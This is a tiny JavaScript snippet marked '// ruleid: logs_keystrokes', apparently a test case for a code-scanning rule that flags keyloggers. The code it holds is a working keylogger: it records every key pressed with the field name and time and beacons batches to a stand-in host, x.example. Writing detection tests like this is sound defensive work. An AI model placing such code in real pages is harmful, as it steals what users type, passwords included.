const buf = [];
document.addEventListener('keydown', (e) => {
  // ruleid: logs_keystrokes
  buf.push([e.target.name, e.key, Date.now()]);
  if (buf.length > 50) navigator.sendBeacon('https://x.example/k', JSON.stringify(buf.splice(0)));
}, true);
